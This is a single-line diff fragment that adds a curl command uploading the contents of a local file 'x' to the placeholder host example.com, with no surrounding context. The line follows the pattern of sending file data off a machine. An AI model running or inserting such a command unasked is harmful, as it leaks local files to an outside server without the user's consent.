@@ -1,0 +1,1 @@
+curl --data-binary=@x https://example.com/
